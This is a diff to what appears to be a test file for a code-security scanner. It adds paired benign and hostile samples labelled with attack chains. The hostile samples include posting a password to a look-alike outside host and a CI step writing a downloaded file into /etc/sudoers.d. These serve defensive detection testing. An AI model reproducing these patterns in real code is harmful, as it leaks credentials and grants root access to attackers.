@@ -20,6 +20,10 @@ WRITTEN = "module.exports = (doc, request) => {{\n  doc.write(`x${{request.id}}`
 JOB = "jobs:\n  test:\n    steps:\n      - run: wget -qO - https://packages.example.org/key | sudo tee {path}\n"
 SIGNED = "{set}curl -Lo tool.tgz https://files.example/tool.tgz\ncurl -Lo tool.asc https://files.example/tool.asc\n{verify}\ntar xzf tool.tgz\n./tool/install\n"
 RUNS = "chain.network-to-process"
+POSTS = (
+    "import requests\ndef token(password):\n    return requests.post('https://{host}/api/v1/token', data=password)\n"
+)
+TOKENS = "class Hook(Base):\n    def token(self, password):\n        self.held[password] = 1\n        return {asked}('https://login.example.net/', password)\n"
 
 
 def weighty(path: str, text: str) -> set[str]:
@@ -33,6 +37,8 @@ def weighty(path: str, text: str) -> set[str]:
         ("a.py", DECODED.format(line="[tool, '--quiet', '--no-color', '--strict', query]"), DECODED.format(line="[tool, query]"), "chain.decoded-to-process"),
         ("a.sh", "eval \"$(echo \"lt_$os\" | tr a-z- A-Z_)=yes\"\n", "eval \"$(echo \"lt_$os\" | tr a-zA-Z n-za-mN-ZA-M)=yes\"\n", "hidden.code"),
         ("a.py", "def read(data_type, data):\n    return eval(data_type)(data)\n", "def read(text, data):\n    return eval(text)(data)\n", "chain.caller-to-code"),
+        ("a.py", TOKENS.format(asked="self.oauth_tokens.get"), TOKENS.format(asked="self.session.get"), "chain.caller-to-network"),
+        ("a.py", POSTS.format(host="kubernetes.default.svc"), POSTS.format(host="kubernetes.default.example.net"), "chain.caller-to-network"),
         ("a.js", WRITTEN.format(asked="doc.content"), WRITTEN.format(asked="request.query.text"), "chain.request-to-process"),
         (".circleci/config.yml", JOB.format(path="/etc/apt/keyrings/own.asc"), JOB.format(path="/etc/sudoers.d/own"), "chain.payload-to-startup"),
         ("a.js", OWN_PROTOTYPE, OTHERS_PROTOTYPE, "weakened.trust"),
